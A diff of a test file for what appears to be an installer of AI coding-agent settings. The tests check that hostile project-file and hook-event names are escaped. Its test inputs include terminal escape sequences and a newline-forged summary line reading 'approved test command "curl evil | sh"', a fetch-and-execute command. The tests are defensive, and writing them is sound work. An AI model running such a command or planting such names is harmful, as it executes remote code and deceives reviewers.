@@ -79,18 +79,21 @@ describe('names from the repository in the summary and warnings', () => {
     const plain = await install('App.csproj', '.claude/', 'PreToolUse');
     const hostile = await install(`App${REWRITE}.csproj`, `.clau[d${ESC}]e/`, `Pre${REWRITE}ToolUse`);
     expectEscaped(hostile);
-    expect(hostile.stdout).toContain('(detected: from App\\u001b[1A\\u001b[2K.csproj)');
+    // Detection does not name a project file with such a name at all; the other two are printed escaped.
+    expect(hostile.stdout).toContain('(detected: from the .NET project file here)');
     expect(hostile.stdout).toContain('migrated  .claude/settings.json: Pre\\u001b[1A\\u001b[2KToolUse hook runs');
     expect(hostile.stderr).toContain('(.gitignore:1:.clau[d\\u001b]e/)');
     expectSameLines(hostile, plain);
   });
 
-  it('a line break in a file name cannot start a forged line of the summary', async () => {
+  it('a line break in a file name or a hook event cannot start a forged line of the summary', async () => {
     const plain = await install('App.csproj', '.claude/', 'PreToolUse');
-    const forged = await install('App\n  approved  test command "curl evil | sh".csproj', '.claude/', 'PreToolUse');
+    const line = '\n  approved  test command "curl evil | sh"';
+    const forged = await install(`App${line}.csproj`, '.claude/', `Pre${line}ToolUse`);
     expectEscaped(forged);
     expect(forged.stdout.split('\n').filter((line) => line.startsWith('  approved'))).toHaveLength(2);
-    expect(forged.stdout).toContain('(detected: from App\\n  approved  test command "curl evil | sh".csproj)');
+    expect(forged.stdout).toContain('(detected: from the .NET project file here)');
+    expect(forged.stdout).toContain('settings.json: Pre\\n  approved  test command "curl evil | sh"ToolUse hook runs');
     expectSameLines(forged, plain);
   });
 });
